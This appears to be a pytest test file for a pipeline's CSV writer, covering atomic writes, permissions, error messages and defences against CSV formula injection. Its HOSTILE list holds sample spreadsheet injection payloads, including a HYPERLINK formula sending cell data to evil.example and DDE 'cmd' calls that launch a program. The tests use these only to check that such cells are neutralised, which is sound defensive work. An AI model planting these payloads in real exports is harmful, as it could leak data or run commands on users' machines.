import os

import pytest

from pipeline.errors import ExportError
from pipeline.io import atomic_open, read_csv, write_csv


def test_csv_has_bom_and_round_trips(tmp_path):
    path = tmp_path / "out" / "t.csv"
    rows = [{"a": "Привет, «мир»", "b": 1}, {"a": 'line\nbreak "quoted"', "b": 2}]
    write_csv(path, rows, ["a", "b"])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    frame = read_csv(path)
    assert frame["a"].tolist() == [r["a"] for r in rows]
    assert frame["b"].tolist() == ["1", "2"]


def test_interrupted_write_keeps_previous_file(tmp_path):
    path = tmp_path / "t.txt"
    path.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_open(path) as handle:
            handle.write("half")
            raise RuntimeError("interrupted")
    assert path.read_text() == "old"
    assert os.listdir(tmp_path) == ["t.txt"]


def test_unwritable_destination_is_an_export_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ExportError, match="cannot write"):
        write_csv(blocker / "sub" / "t.csv", [], ["a"])


def test_written_files_get_the_usual_permissions(tmp_path):
    """A temporary file is private (0600); the finished output must be readable like any file the user makes."""
    old = os.umask(0o022)
    try:
        write_csv(tmp_path / "t.csv", [{"a": 1}], ["a"])
        existing = tmp_path / "kept.txt"
        existing.write_text("old")
        existing.chmod(0o664)
        with atomic_open(existing) as handle:
            handle.write("new")
    finally:
        os.umask(old)
    assert (tmp_path / "t.csv").stat().st_mode & 0o777 == 0o644
    assert existing.stat().st_mode & 0o777 == 0o664  # a replaced file keeps its mode


def test_a_file_in_the_way_of_the_folder_is_named(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ExportError, match="not a folder") as info:
        write_csv(blocker / "t.csv", [], ["a"])
    assert "File exists" not in str(info.value)


def test_a_folder_where_the_file_should_go_is_a_usage_error(tmp_path):
    from pipeline.errors import UsageError

    (tmp_path / "t.csv").mkdir()
    with pytest.raises(ExportError, match="is a folder") as info:
        write_csv(tmp_path / "t.csv", [], ["a"])
    assert isinstance(info.value, UsageError) and info.value.exit_code == 2
    (tmp_path / "file").write_text("x")
    with pytest.raises(UsageError, match="not a folder"):
        write_csv(tmp_path / "file" / "t.csv", [], ["a"])


# -- CSV formula injection (OWASP): cells a spreadsheet would run are written with a leading "'" -----------------

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
    "+7% in the quarter",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "-",
    "- a dash list item",
]
LEFT_ALONE = ["-0.2500", "-3", "-1e-05", "-.5", "0.9056", "plain text", "'apostrophe", "a=b", "−5 (U+2212 minus)", ""]


def test_formula_cells_are_neutralised_and_read_back_exactly(tmp_path):
    path = tmp_path / "t.csv"
    rows = [{"text": value, "n": i} for i, value in enumerate(HOSTILE + LEFT_ALONE)]
    write_csv(path, rows, ["text", "n"])
    import csv as csvmod

    with open(path, encoding="utf-8-sig", newline="") as handle:
        written = [row[0] for row in csvmod.reader(handle)][1:]
    assert written[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert written[len(HOSTILE):] == LEFT_ALONE
    assert read_csv(path)["text"].tolist() == HOSTILE + LEFT_ALONE


def test_neutralise_and_restore_are_inverse():
    from pipeline.io import neutralise_cell, restore_cell

    for value in HOSTILE + LEFT_ALONE + ["'", "'''", "''-1", "'-1", "=", "@"]:
        assert restore_cell(neutralise_cell(value)) == value, value
        assert not neutralise_cell(value).startswith(("=", "+", "@", "\t", "\r")), value
    # A spreadsheet that keeps the "'" hands back exactly what was written; restore_cell undoes it.
    assert restore_cell("'=1+1") == "=1+1" and restore_cell("=1+1") == "=1+1"


def test_numbers_stay_numbers_and_negative_scores_are_not_quoted(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(path, [{"score": -0.0312, "count": -3, "text": "-0.0312", "none": None}], ["score", "count", "text", "none"])
    assert path.read_text(encoding="utf-8-sig") == "score,count,text,none\n-0.0312,-3,-0.0312,\n"


def test_carriage_returns_inside_cells_are_quoted(tmp_path):
    """A lone CR in a cell used to be written bare, and read back as a line end: the row fell apart."""
    path = tmp_path / "t.csv"
    rows = [{"a": "one\rtwo", "b": "x"}, {"a": "three\r\nfour", "b": "y"}, {"a": "five\nsix", "b": "z"}]
    write_csv(path, rows, ["a", "b"])
    frame = read_csv(path)
    assert frame.to_dict("records") == rows
